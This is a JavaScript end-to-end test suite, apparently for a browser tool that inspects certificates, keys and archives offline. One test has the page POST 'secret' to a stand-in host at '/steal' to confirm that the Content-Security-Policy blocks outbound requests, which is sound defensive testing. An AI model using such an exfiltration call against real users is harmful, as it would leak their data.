// End-to-end: the release build in Debian's Chromium, served on loopback.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { perFile, openApp as open } from './browser.js';
import { CORE_TARGETS } from './core.js';
import { vectorFacts, vectorInput, largeBundle, deepChain, inspectJson, sameNameCertificates } from './fixtures.js';
import { assertSuiteStayedOnLoopback } from './netlog.js';
import { DIST } from './server.js';
import { functionName, namedBuild } from '../../bench/budgets/attribution.mjs';

const TEST_TIMEOUT = 60_000;

const suite = perFile();

/** A fresh page on the app with its page object (browser.openApp). */
const openApp = () => open(suite);

test('pasting a real certificate shows its subject, validity and fingerprints', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems, requestsAfterLoad } = await openApp();
  const facts = vectorFacts('public-isrg-root-x1').certificates[0];
  await app.pasteText(readFileSync(vectorInput('public-isrg-root-x1', 'isrg-root-x1.pem'), 'utf8'));
  const card = app.card(0);
  await card.locator.waitFor({ timeout: 10_000 });
  assert.equal(await card.subject(), facts.subject);
  assert.equal(await card.issuer(), facts.issuer);
  assert.equal(await card.notBefore(), facts.not_before);
  assert.equal(await card.notAfter(), facts.not_after);
  assert.equal(await card.sha256(), facts.sha256);
  assert.equal(await card.sha1(), facts.sha1);
  assert.match(await card.expiry(), /^valid, \d+ days left$/);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('a messy multi-block paste and a DER file both become cards', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems, requestsAfterLoad } = await openApp();
  const messy = vectorFacts('crlf-bom-indented-stray-text').certificates;
  await app.pasteText(readFileSync(vectorInput('crlf-bom-indented-stray-text', 'from-pkcs12.txt'), 'utf8'));
  await app.cards.nth(1).waitFor({ timeout: 10_000 });
  assert.equal(await app.card(0).sha256(), messy[0].sha256);
  assert.equal(await app.card(1).subject(), messy[1].subject);
  assert.equal(await app.diagnostic('text-outside-blocks').count(), 1);

  const der = vectorFacts('der-certificate').certificates[0];
  await app.filePick.setInputFiles(vectorInput('der-certificate', 'leaf.der'));
  await app.cards.nth(2).waitFor({ timeout: 10_000 });
  assert.equal(await app.card(2).sha256(), der.sha256);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, []);
  await context.close();
});

// A Tomcat/IIS download as CAs and consoles zip it: the PKCS#12 file and pfx-password.txt. The page
// opens the archive, reads the password from its file and matches the key; the page is told the
// password by no one, and no password reaches the page.
test('a ZIP a CA sent is opened: its PKCS#12 file read with the password file beside it', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, page, problems, requestsAfterLoad } = await openApp();
  const facts = vectorFacts('archive-tomcat-download-pfx-and-password-file');
  await app.filePick.setInputFiles(vectorInput('archive-tomcat-download-pfx-and-password-file', 'example.com_tomcat.test-only.zip'));
  await app.diagnostic('key-matches-certificate').waitFor({ timeout: 10_000 });
  assert.equal(await app.cards.count(), facts.certificates.length);
  assert.equal(await app.card(0).sha256(), facts.certificates[0].sha256);
  assert.match(await app.diagnostic('archive-opened').textContent(), /example\.com\.pfx/);
  assert.match(await app.diagnostic('archive-password-file').textContent(), /pfx-password\.txt/);
  assert.equal(await app.passphrase.inputValue(), '');
  assert.ok(!(await page.content()).includes('k7Qz9pWx2Lr4'), 'the password file\'s content is not in the page');
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, []);
  await context.close();
});

// The same download unpacked, renamed and zipped again on a Chinese Windows: every name in GBK with
// no UTF-8 flag. The Worker decodes the names with the browser's TextDecoder (the module carries no
// GBK tables), so 密码.txt is known as the password file and opens 证书.pfx.
test('a ZIP of a Chinese Windows: its GBK names read, its PKCS#12 file opened with 密码.txt', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, page, problems, requestsAfterLoad } = await openApp();
  const facts = vectorFacts('archive-chinese-windows-gbk-names');
  await app.filePick.setInputFiles(vectorInput('archive-chinese-windows-gbk-names', 'server-certificate-windows.test-only.zip'));
  await app.diagnostic('key-matches-certificate').waitFor({ timeout: 10_000 });
  assert.equal(await app.cards.count(), facts.certificates.length);
  assert.equal(await app.card(0).sha256(), facts.certificates[0].sha256);
  assert.match(await app.diagnostic('archive-opened').textContent(), /服务器证书\/证书\.pfx/);
  assert.match(await app.diagnostic('archive-password-file').textContent(), /服务器证书\/密码\.txt/);
  assert.ok(!(await page.content()).includes('\uFFFD'), 'no name shows a replaced character');
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, []);
  await context.close();
});

// A cloud API's certificate download pasted as it answered: JSON whose Content is base64 of a ZIP
// (Tencent Cloud's DownloadCertificate). The Worker decodes the value and opens the archive: its
// chain and key are read and match, named after the line that held them.
test('a pasted API answer holding a ZIP as base64 is opened as the archive', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems, requestsAfterLoad } = await openApp();
  const facts = vectorFacts('recovered-cloud-api-zip-base64');
  await app.pasteText(readFileSync(vectorInput('recovered-cloud-api-zip-base64', 'download-certificate.json'), 'utf8'));
  await app.diagnostic('key-matches-certificate').waitFor({ timeout: 10_000 });
  assert.equal(await app.card(0).sha256(), facts.certificates[0].sha256);
  assert.match(await app.diagnostic('recovered-bare-base64').textContent(), /pasted text:3/);
  assert.match(await app.diagnostic('archive-opened').textContent(), /www\.example\.com_bundle\.crt/);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, []);
  await context.close();
});

// A chain, its key and a request picked together in the certificate box: the Worker reads the files
// and moves the key file and the request file to their boxes (the page's main thread never looks
// into a file), which the page shows and says; the key matches.
test('a key file and a request file given to the certificate box move to their boxes', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems, requestsAfterLoad } = await openApp();
  await app.filePick.setInputFiles([
    vectorInput('key-pkcs1-rsa-matches-leaf', 'chain.pem'),
    vectorInput('key-pkcs1-rsa-matches-leaf', 'leaf-key.test-only.pem'),
    vectorInput('csr-matches-leaf', 'request.csr'),
  ]);
  await app.diagnostic('key-matches-certificate').waitFor({ timeout: 10_000 });
  assert.match(await app.keyFileList.textContent(), /leaf-key\.test-only\.pem/);
  assert.match(await app.csrFileList.textContent(), /request\.csr/);
  const certificateFiles = await app.fileList.textContent();
  assert.ok(certificateFiles.includes('chain.pem') && !certificateFiles.includes('leaf-key') && !certificateFiles.includes('request.csr'), certificateFiles);
  const notes = await app.movedNote.allTextContents();
  assert.ok(notes.some((n) => /leaf-key\.test-only\.pem.*private key box/.test(n)), notes.join(' | '));
  assert.ok(notes.some((n) => /request\.csr.*CSR box/.test(n)), notes.join(' | '));
  assert.equal(await app.diagnostic('not-a-certificate').count(), 0);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, []);
  await context.close();
});

// A file picked by mistake beside the right one (a disk image, a video): the page reads no more of
// it than the analysis would (one byte past the ceiling of an input), says it was not read, and
// analyses the other file. A sparse file of 2 GiB: read whole, it would not fit the module's memory.
test('a file past the ceiling of an input is not read, and the other file is', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems, requestsAfterLoad } = await openApp();
  const dir = mkdtempSync(path.join(os.tmpdir(), 'cert-preflight-large-'));
  try {
    const big = path.join(dir, 'disk.img');
    writeFileSync(big, '');
    truncateSync(big, 2 ** 31);
    const facts = vectorFacts('chain-shuffled');
    await app.filePick.setInputFiles([big, vectorInput('chain-shuffled', 'chain.pem')]);
    await app.diagnostic('input-too-large').waitFor({ timeout: 30_000 });
    assert.match(await app.diagnostic('input-too-large').textContent(), /disk\.img.*32 MiB/s);
    await app.cards.nth(facts.certificates.length - 1).waitFor({ timeout: 10_000 });
    assert.equal(await app.cards.count(), facts.certificates.length);
    assert.deepEqual(problems, []);
    assert.deepEqual(requestsAfterLoad, []);
  } finally {
    rmSync(dir, { recursive: true, force: true });
    await context.close();
  }
});

test('malformed input yields a clear diagnostic and keeps the text', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems } = await openApp();
  const cut = readFileSync(vectorInput('malformed-missing-end', 'cut.pem'), 'utf8');
  await app.pasteText(cut);
  const diagnostic = app.diagnostic('pem-missing-end');
  await diagnostic.waitFor({ timeout: 10_000 });
  assert.match(await diagnostic.textContent(), /block 1.*line 1/);
  assert.match(await diagnostic.textContent(), /copy it again/);
  assert.equal(await app.paste.inputValue(), cut);
  await app.pasteText('my certificate is attached');
  await app.diagnostic('no-pem-or-der').waitFor({ timeout: 10_000 });
  assert.equal(await app.cards.count(), 0);
  assert.deepEqual(problems, []);
  await context.close();
});

test('the Content-Security-Policy refuses a fetch to another origin', { timeout: TEST_TIMEOUT }, async () => {
  const { context, page } = await openApp();
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let error = null;
    try {
      await fetch('https://upload.example.com/steal', { method: 'POST', body: 'secret' });
    } catch (e) {
      error = String(e);
    }
    await new Promise((r) => setTimeout(r, 100));
    return { error, violations };
  });
  assert.match(outcome.error ?? '', /TypeError/);
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
  await context.close();
});

test('a 2 MiB bundle is analysed in slices with progress, and its long lists are cut', { timeout: 180_000 }, async () => {
  const file = largeBundle();
  const text = readFileSync(file, 'utf8');
  assert.ok(text.length > 2_000_000, `bundle is ${text.length} bytes`);
  const expected = inspectJson(file);
  const { context, page, app, problems, requestsAfterLoad } = await openApp();
  // Pasted at once (one input event, as a paste does); a timer samples the progress bar every 5 ms.
  // The Worker reports its progress after each slice of the analysis: values part-way prove the
  // slices, and that the page's main thread was free to show them.
  const samples = await app.pasteSamplingProgress(text);
  assert.ok(samples.length > 0, 'the progress was shown');
  // The 2 MiB of text are kept in the paste area but not laid out: a line says what is there.
  await app.pasteCollapsed.waitFor();
  assert.match(await app.pasteCollapsed.textContent(), /^2\.0 MB of text pasted\./);
  assert.equal(await app.paste.isHidden(), true);
  assert.match(samples[0].text, /Analysing 2\.0 MB of material/);
  // A paste is analysed at once: only typing waits for the input to settle.
  assert.ok(samples.every((s) => !/settle/.test(s.text)), samples[0].text);
  const reading = samples.filter((s) => /reading blocks: \d+ of \d+/.test(s.text));
  const between = new Set(reading.filter((s) => s.value > 0 && s.value < s.max).map((s) => s.value));
  assert.ok(between.size >= 2, `reading seen part-way at ${[...between].join(', ')}`);
  // The signature checks: WebCrypto makes the search's checks ahead (src/ui/worker.rs), every one
  // of them verifying, and the search then takes them in a slice or two.
  const checking = samples.filter((s) => /checking signatures: \d+ of 999/.test(s.text));
  assert.ok(checking.every((s) => s.max === 999), 'one check per certificate but the root');
  const marks = await page.workers()[0].evaluate(() => performance.getEntriesByType('mark').map((m) => m.name).filter((n) => /checks verified by WebCrypto/.test(n)));
  assert.deepEqual(marks, ['cert-preflight: 999 of 999 checks verified by WebCrypto']);

  // The result is the command-line twin's.
  assert.equal(await app.verdict(), expected.chain.verdict);
  await app.heading(`${expected.certificates.length} certificates`).waitFor();
  assert.equal(await app.cards.count(), 10);
  const cards = app.showAll('certificates');
  assert.equal(await cards.textContent(), 'Show all 1000 certificates (990 more)');
  const warnings = expected.diagnostics.filter((d) => d.severity === 'warning').length;
  assert.ok(warnings > 10);
  assert.equal(await app.diagnosticItems('warning').count(), 10);
  // The bundle's change names the first 10 of the 997 certificates it drops and counts the rest
  // (the CLI's text and JSON say the same); the page shows its beginning until asked.
  const dropped = app.fixChanges.locator('li').filter({ hasText: 'not on the leaf\'s path' });
  assert.match(await dropped.textContent(), /^removed 997 certificate\(s\) not on the leaf's path: #2 \(.*\),… show the whole change$/);
  await dropped.getByTestId('fix-change-more').click();
  await dropped.filter({ hasText: / and 987 more$/ }).waitFor();
  assert.equal(await dropped.getByTestId('fix-change-more').count(), 0);
  assert.equal((await dropped.textContent()).match(/#\d+ \(/g).length, 10);
  // The before/after view shows the beginning of the 2 MiB, cut at a line break, and says so: the
  // whole text laid out in it held the page 180-320 ms.
  await app.fixBeforeAfter.click();
  await app.fixBeforeCut.waitFor();
  assert.match(await app.fixBeforeCut.textContent(), /^The first 1\d KB of 2\.0 MB are shown; the request and the console fields hold the whole text\.$/);
  const before = await app.fixBefore.textContent();
  assert.ok(before.length > 8_000 && before.length <= 16 * 1024 && before.endsWith('\n'), `${before.length} characters`);
  assert.ok(text.startsWith(before), 'the beginning of the text as pasted');
  await cards.click();
  await app.cards.nth(999).waitFor({ timeout: 30_000 });
  assert.equal(await app.cards.count(), 1000);
  const last = expected.certificates[999];
  assert.equal(await app.card(999).sha256(), last.sha256);
  // The cards off screen are in the page but not laid out (content-visibility) until scrolled to.
  const rendered = (card) => card.evaluate((c) => c.querySelector('h3').checkVisibility({ contentVisibilityAuto: true }));
  assert.equal(await rendered(app.cards.nth(999)), false, 'the last card is skipped while off screen');
  await app.cards.nth(999).scrollIntoViewIfNeeded();
  // The browser decides what is near the viewport at its next rendering update, a frame or two
  // after the scroll: asked at once, the card was sometimes still skipped (one run in five).
  const laidOut = await app.cards.nth(999).evaluate((c) => new Promise((resolve) => {
    const until = performance.now() + 5_000;
    const check = () => {
      const shown = c.querySelector('h3').checkVisibility({ contentVisibilityAuto: true });
      if (shown || performance.now() > until) resolve(shown); else requestAnimationFrame(check);
    };
    check();
  }));
  assert.equal(laidOut, true, 'the last card is laid out once on screen');
  assert.equal(await app.paste.inputValue(), text, 'the pasted text is kept as it was');
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('a chain 1,000 deep shows its first links, then all of them in order, a chunk at a time', { timeout: 180_000 }, async () => {
  const file = deepChain();
  const expected = inspectJson(file);
  assert.equal(expected.chain.order.length, 1000);
  const { context, page, app, problems, requestsAfterLoad } = await openApp();
  await app.pasteAtOnce(readFileSync(file, 'utf8'));
  await app.waitForVerdict(expected.chain.verdict, 30_000);
  const indexes = () => app.chainNodes.evaluateAll((nodes) => nodes.map((n) => Number(n.dataset.index)));
  assert.deepEqual(await indexes(), expected.chain.order.slice(0, 10));
  const links = app.showAll('links of the chain');
  assert.equal(await links.textContent(), 'Show all 1000 links of the chain (990 more)');
  // From the press until all are shown: how many links are in the page at each frame, and whether
  // a link once shown was ever taken out again (each chunk is added, the ones before it are kept).
  await page.evaluate(() => {
    const path = document.querySelector('.chain-path');
    window.__reveal = { counts: [], removed: 0 };
    new MutationObserver((records) => {
      for (const r of records) window.__reveal.removed += [...r.removedNodes].filter((n) => n.dataset?.testid === 'chain-node').length;
    }).observe(path, { childList: true });
    const sample = () => {
      const n = path.querySelectorAll('[data-testid="chain-node"]').length;
      window.__reveal.counts.push(n);
      if (n < 1000) requestAnimationFrame(sample);
    };
    requestAnimationFrame(sample);
  });
  await links.click();
  await app.chainNodes.nth(999).waitFor({ state: 'attached', timeout: 30_000 });
  const reveal = await page.evaluate(() => window.__reveal);
  const partWay = new Set(reveal.counts.filter((n) => n > 10 && n < 1000));
  assert.ok(partWay.size >= 2, `links shown part-way: ${[...partWay].join(', ')}`);
  assert.equal(reveal.removed, 0, 'no link was taken out and put back');
  assert.deepEqual(await indexes(), expected.chain.order);
  // Each link's status and the root's own signature, as the command line found them.
  const verified = expected.chain.signatures.filter((s) => s.verified).length;
  assert.equal(verified, 1000);
  assert.equal(await page.locator('[data-testid="chain-link"][data-status="verified"]').count(), verified);
  assert.equal(await app.showAll('links of the chain').count(), 0);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('material above 16 KiB but below the large-input threshold is analysed in slices, at once', { timeout: 180_000 }, async () => {
  // 300 Ed25519 certificates sharing one name (0.18 MB): each is a candidate issuer of every
  // other, so the chain search spends the whole signature budget. Analysed in the input event, it
  // held the main thread 0.3 s in one task (bench/browser/mainthread.mjs).
  const text = sameNameCertificates('tests/vectors/inspect/ed25519-root-and-leaf/input/chain.pem', 1, 300);
  assert.ok(text.length > 16 * 1024 && text.length < 256 * 1024, `${text.length} bytes`);
  const dir = mkdtempSync(path.join(os.tmpdir(), 'cert-preflight-same-name-'));
  const file = path.join(dir, 'same-name.pem');
  writeFileSync(file, text);
  const expected = inspectJson(file);
  rmSync(dir, { recursive: true, force: true });
  const { context, page, app, problems, requestsAfterLoad } = await openApp();
  // The timer samples only while the main thread is free: values part-way prove the slices.
  const samples = await app.pasteSamplingProgress(text);
  assert.ok(samples.length > 0, 'the progress was shown');
  assert.ok(samples.every((s) => !/settle/.test(s.text)), 'a paste does not wait for the input to settle');
  const checking = samples.filter((s) => /checking signatures: \d+ of \d+/.test(s.text));
  const between = new Set(checking.filter((s) => s.value > 0 && s.value < s.max).map((s) => s.value));
  assert.ok(between.size >= 2, `signature checks seen part-way at ${[...between].join(', ')}`);
  // The result is the command-line twin's.
  assert.equal(await app.verdict(), expected.chain.verdict);
  await app.heading(`${expected.certificates.length} certificates`).waitFor();
  // The long lists come cut: their first items, in the command line's order, and their totals;
  // "show all" asks the Worker for the rest, and nothing is lost.
  const indexes = (locator) => locator.evaluateAll((nodes) => nodes.map((n) => Number(n.dataset.index)));
  const inOrder = (n) => [...Array(n).keys()];
  assert.deepEqual(await indexes(app.cards), inOrder(10));
  assert.deepEqual(await indexes(app.chainNodes), expected.chain.order.slice(0, 10));
  const warnings = expected.diagnostics.filter((d) => d.severity === 'warning');
  assert.ok(warnings.length > 10, `${warnings.length} warnings`);
  assert.equal(await app.diagnosticItems('warning').count(), 10);
  const strays = page.getByTestId('chain-strays');
  assert.ok(expected.chain.not_on_path.length > 10);
  assert.equal((await strays.textContent()).split(', ').length, 10);
  const cards = app.showAll('certificates');
  assert.equal(await cards.textContent(), 'Show all 300 certificates (290 more)');
  await cards.focus();
  await page.keyboard.press('Enter');
  await app.cards.nth(299).waitFor({ timeout: 30_000 });
  assert.deepEqual(await indexes(app.cards), inOrder(300));
  assert.equal(await app.card(299).sha256(), expected.certificates[299].sha256);
  // The page's warnings are the analysis' (the command line's) and the target's: all of them once asked.
  const total = Number(/\((\d+)\)/.exec(await app.diagnostics('warning').locator('h3').textContent())[1]);
  assert.ok(total >= warnings.length, `${total} warnings shown in all`);
  await app.showAll('warnings').click();
  await app.diagnosticItems('warning').nth(total - 1).waitFor({ timeout: 30_000 });
  assert.equal(await app.diagnosticItems('warning').count(), total);
  const codes = await app.diagnosticItems('warning').evaluateAll((items) => items.map((i) => i.dataset.code));
  for (const code of new Set(warnings.map((d) => d.code))) {
    assert.equal(codes.filter((c) => c === code).length, warnings.filter((d) => d.code === code).length, code);
  }
  await app.showAll('names not on the path').click();
  await page.waitForFunction((n) => document.querySelector('[data-testid="chain-strays"]').textContent.split(', ').length === n,
    expected.chain.not_on_path.length, { timeout: 30_000 });
  assert.equal(await app.showAllButtons.count(), 0, 'every list is whole');
  assert.equal(await app.cards.count(), 300, 'the cards asked for stay whole');
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('a large paste is hidden in its own task and read in the next; a newer input or "Remove the text" before that read wins', { timeout: 120_000 }, async () => {
  const large = sameNameCertificates('tests/vectors/inspect/ed25519-root-and-leaf/input/chain.pem', 1, 300);
  assert.ok(large.length > 64 * 1024, `${large.length} bytes`);
  const small = readFileSync(vectorInput('public-isrg-root-x1', 'isrg-root-x1.pem'), 'utf8');
  const facts = vectorFacts('public-isrg-root-x1').certificates[0];
  const { context, page, app, problems, requestsAfterLoad } = await openApp();
  // In the page, in one turn of its event loop: the large paste, then (before any timer runs)
  // what `then` does. Returns whether the area was hidden before the paste's task ended.
  const pasteThen = (then) => page.evaluate(async ([large, small, then]) => {
    const area = document.querySelector('[data-testid="paste"]');
    area.focus();
    area.value = large;
    area.dispatchEvent(new InputEvent('input', { bubbles: true, inputType: 'insertFromPaste' }));
    // The page renders in microtasks of the same task; a timer would be a later task.
    for (let k = 0; k < 10; k++) await Promise.resolve();
    const hidden = area.hidden;
    if (then === 'type') {
      area.value = small;
      area.dispatchEvent(new InputEvent('input', { bubbles: true, inputType: 'insertFromPaste' }));
    } else if (then === 'remove') {
      document.querySelector('[data-testid="remove-text"]').click();
    }
    return hidden;
  }, [large, small, then]);

  // Alone: hidden at once, read, analysed, and its size said.
  assert.equal(await pasteThen(null), true, 'the area is hidden in the paste\'s own task');
  await app.heading('300 certificates').waitFor({ timeout: 30_000 });
  assert.match(await app.pasteCollapsed.textContent(), /^0\.2 MB of text pasted\./);
  assert.equal(await app.paste.inputValue(), large);

  // A newer input before the read: the newer text is the box's, the large one never comes back.
  await page.getByTestId('remove-text').click();
  await app.paste.waitFor({ state: 'visible' });
  assert.equal(await pasteThen('type'), true);
  await app.card(0).locator.waitFor({ timeout: 10_000 });
  assert.equal(await app.card(0).sha256(), facts.sha256);
  await page.waitForTimeout(300);
  assert.equal(await app.cards.count(), 1);
  assert.equal(await app.paste.inputValue(), small);
  assert.equal(await app.paste.isVisible(), true, 'the small text is shown');

  // "Remove the text" before the read: the box stays empty.
  await app.paste.fill('');
  await app.cards.first().waitFor({ state: 'detached', timeout: 10_000 });
  assert.equal(await pasteThen('remove'), true);
  await page.waitForTimeout(300);
  assert.equal(await app.paste.inputValue(), '');
  assert.equal(await app.paste.isVisible(), true);
  assert.equal(await app.cards.count(), 0);
  assert.equal(await app.pasteCollapsed.count(), 0);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('a real paste (Ctrl+V) of large text is made by the page: it replaces the selection, never lays the text out, and is analysed', { timeout: 120_000 }, async () => {
  const large = sameNameCertificates('tests/vectors/inspect/ed25519-root-and-leaf/input/chain.pem', 1, 300);
  const small = readFileSync(vectorInput('public-isrg-root-x1', 'isrg-root-x1.pem'), 'utf8');
  const facts = vectorFacts('public-isrg-root-x1').certificates[0];
  const { context, page, app, problems, requestsAfterLoad } = await open(suite, { contextOptions: { permissions: ['clipboard-read', 'clipboard-write'] } });
  const pasteFromClipboard = async (text) => {
    await page.evaluate((t) => navigator.clipboard.writeText(t), text);
    await page.keyboard.press('Control+V');
  };
  // A small paste is the browser's own, as always.
  await app.paste.focus();
  await pasteFromClipboard(small);
  await app.card(0).locator.waitFor({ timeout: 10_000 });
  assert.equal(await app.paste.inputValue(), small);
  // A large one with the caret after the first line: the page puts it there itself. Chromium's
  // own paste laid the whole text out in one task first (about 1 s for 2 MiB, 60 ms for these
  // 0.18 MB); the page's sets the value of the area hidden, so nothing lays the text out (the
  // layout time Chromium counts: 1-2 ms, the collapsed line's).
  const caret = small.indexOf('\n') + 1;
  await app.paste.evaluate((area, at) => area.setSelectionRange(at, at), caret);
  const client = await context.newCDPSession(page);
  await client.send('Performance.enable');
  const layoutTime = async () => (await client.send('Performance.getMetrics')).metrics.find((m) => m.name === 'LayoutDuration').value;
  const before = await layoutTime();
  await pasteFromClipboard(large);
  await app.pasteCollapsed.waitFor();
  const expected = small.slice(0, caret) + large + small.slice(caret);
  await app.waitForPasteLength(expected.length);
  assert.equal(await app.paste.inputValue(), expected, 'the paste replaced the caret\'s place, as a paste does');
  assert.equal(await app.paste.isHidden(), true);
  const ours = (await layoutTime()) - before;
  // Against the browser's own paste of the same text into a bare text area, in the same context
  // and moment (it lays the whole text out: about 60 ms on a quiet machine): ours is a few ms, and
  // stays under a third of that when the machine is slow (the bound never below 20 ms).
  const bare = await context.newPage();
  await bare.goto(`${suite.server.url}manifest.webmanifest`);
  await bare.setContent('<textarea rows="10" cols="80"></textarea>');
  const bareClient = await context.newCDPSession(bare);
  await bareClient.send('Performance.enable');
  const bareLayout = async () => (await bareClient.send('Performance.getMetrics')).metrics.find((m) => m.name === 'LayoutDuration').value;
  await bare.evaluate((t) => navigator.clipboard.writeText(t), large);
  await bare.focus('textarea');
  const bareBefore = await bareLayout();
  await bare.keyboard.press('Control+V');
  await bare.waitForFunction((n) => document.querySelector('textarea').value.length === n, large.length);
  await bare.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  const browsers = (await bareLayout()) - bareBefore;
  await bare.close();
  assert.ok(ours < Math.max(0.02, browsers / 3),
    `${ours.toFixed(3)} s of layout, the browser's own paste ${browsers.toFixed(3)} s`);
  // Analysed like any input: the first line cut off the first certificate, the rest are read.
  await app.heading(/^30\d certificates$/).waitFor({ timeout: 30_000 });
  // Selected text is replaced: all of it, by the large text alone (the text shown, as asked).
  await page.getByTestId('show-text').click();
  await app.paste.focus();
  await page.keyboard.press('Control+A');
  await pasteFromClipboard(large);
  await app.waitForPasteLength(large.length);
  assert.equal(await app.paste.inputValue(), large);
  assert.equal(await app.paste.isVisible(), true);
  await app.heading('300 certificates').waitFor({ timeout: 30_000 });
  assert.equal(await app.cards.count(), 10);
  assert.ok(!(await app.cards.allTextContents()).join('').includes(facts.sha256));
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('dropped files are read, dragged-in text is the browser\'s to put in, and large text dragged in is put in by the page', { timeout: 120_000 }, async () => {
  const large = sameNameCertificates('tests/vectors/inspect/ed25519-root-and-leaf/input/chain.pem', 1, 300);
  const small = readFileSync(vectorInput('public-isrg-root-x1', 'isrg-root-x1.pem'), 'utf8');
  const { context, page, app, problems, requestsAfterLoad } = await openApp();
  // A drop on the paste area, as the browser dispatches it; whether the page refused the
  // browser's own handling of it (which for text is putting it where it was dropped).
  const drop = (what) => app.paste.evaluate((area, [kind, content]) => {
    const data = new DataTransfer();
    if (kind === 'file') data.items.add(new File([content], 'dropped.pem', { type: 'application/x-pem-file' }));
    else data.setData('text/plain', content);
    const event = new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: data });
    area.dispatchEvent(event);
    return event.defaultPrevented;
  }, what);
  assert.equal(await drop(['text', small]), false, 'small text dragged in: the browser puts it in');
  assert.equal(await app.paste.inputValue(), '', 'a synthetic drop has no default action to run');
  assert.equal(await drop(['file', small]), true, 'a file: read by the page, not opened by the browser');
  await app.card(0).locator.waitFor({ timeout: 10_000 });
  assert.match(await page.getByTestId('file-list').textContent(), /dropped\.pem/);
  assert.equal(await drop(['text', large]), true, 'large text dragged in: put in by the page');
  await app.pasteCollapsed.waitFor();
  await app.waitForPasteLength(large.length);
  assert.equal(await app.paste.inputValue(), large);
  await app.heading('301 certificates').waitFor({ timeout: 30_000 });
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('when the module stops (a trap, as every panic ends), the page says so and keeps what was typed', { timeout: TEST_TIMEOUT }, async () => {
  const { context, page, app, problems, requestsAfterLoad } = await openApp();
  const typed = 'here is my certificate\n-----BEGIN CERTIFICATE-----\nMIIB (the rest is on the other laptop)\n';
  await app.pasteText(typed);
  await app.passphrase.fill('not a secret');
  assert.equal(await app.panic.count(), 0);
  // The running module's exports (the glue's init returns the instance it already made), asked
  // for an allocation its allocator refuses (alignment 3): the release build aborts, which is how
  // a panic ends too. Called from a timer, as the app's own code is, so nothing catches the trap.
  await page.evaluate(async () => {
    const glue = await import('./cert-preflight.js');
    const exports = await glue.default();
    setTimeout(() => exports.__wbindgen_malloc(16, 3), 0);
  });
  const banner = app.panic;
  await banner.waitFor({ timeout: 10_000 });
  assert.equal(await banner.getAttribute('role'), 'alert');
  // The page's build traps with no panic hook (scripts/build-page.sh): the banner names the
  // trapping wasm function, for the report it asks for.
  const said = await banner.textContent();
  const at = /^cert-preflight hit an internal error at wasm-function\[(\d+)\]:0x[0-9a-f]+ and has stopped\. Nothing was sent anywhere\. What you typed is still in the boxes below/.exec(said);
  assert.ok(at, said);
  // …and that index names the function that trapped, in a build with names kept.
  const named = namedBuild();
  assert.ok(named, 'the named build (wasm-bindgen, wasm-opt) could be made from target/');
  assert.match(functionName(path.join(DIST, 'cert-preflight_bg.wasm'), named, Number(at[1])), /malloc/);
  assert.equal(await app.paste.inputValue(), typed, 'the text is still there to copy');
  assert.equal(await app.passphrase.inputValue(), 'not a secret');
  assert.ok(!(await banner.textContent()).includes('not a secret'), 'the banner holds no input');
  assert.equal(problems.length, 1, problems.join('; '));
  assert.match(problems[0], /^pageerror: unreachable/);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('each target lists its regions by name, the endpoint follows the region, and an unlisted one is kept', { timeout: 120_000 }, async () => {
  const { context, app, problems } = await openApp();
  for (const spec of CORE_TARGETS) {
    await app.chooseTarget(spec.id);
    const list = await app.region.getAttribute('list');
    const labels = await app.regionSuggestions(list).evaluateAll((options) => options.map((o) => [o.value, o.label]));
    assert.deepEqual(labels.map(([id]) => id), spec.regions.map((r) => r.id), `${spec.id}: the suggestions are its regions`);
    for (const [[, label], region] of labels.map((l, i) => [l, spec.regions[i]])) {
      assert.ok(label.includes(region.name_en) && label.includes(region.name_zh), `${spec.id} ${region.id}: ${label}`);
    }
    for (const region of [spec.regions[0], spec.regions[spec.regions.length - 1]]) {
      await app.region.fill(region.id);
      assert.equal(await app.regionHelp.textContent(), `${region.name_en} — endpoint: ${region.host}`, `${spec.id} ${region.id}`);
    }
    await app.region.fill('xx-unlisted-9');
    assert.equal(await app.region.inputValue(), 'xx-unlisted-9');
    assert.match(await app.regionHelp.textContent(), /^Endpoint: \S+/, `${spec.id}: an unlisted region still has an endpoint`);
  }
  assert.deepEqual(problems, []);
  await context.close();
});

test('Chromium\'s net log shows no DNS query and no connection off loopback', { timeout: TEST_TIMEOUT }, async () => {
  // Runs last: closing the browser flushes the net log of every test above.
  const traffic = await assertSuiteStayedOnLoopback(suite);
  // The CSP test's fetch must have been stopped before it became a request at all.
  assert.ok(!traffic.browserRequests.some((r) => r.includes('upload.example.com')), 'the refused fetch never left');
});
